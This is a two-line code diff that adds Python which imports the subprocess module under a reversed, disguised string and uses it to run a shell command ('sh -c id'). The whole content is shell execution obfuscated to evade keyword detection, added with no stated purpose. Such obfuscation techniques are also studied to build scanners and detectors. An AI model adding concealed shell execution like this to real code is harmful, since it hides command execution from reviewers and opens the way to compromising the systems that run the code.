@@ -1,0 +1,2 @@
+mod = __import__('ssecorpbus'[::-1])
+mod.run(['sh', '-c', 'id'])
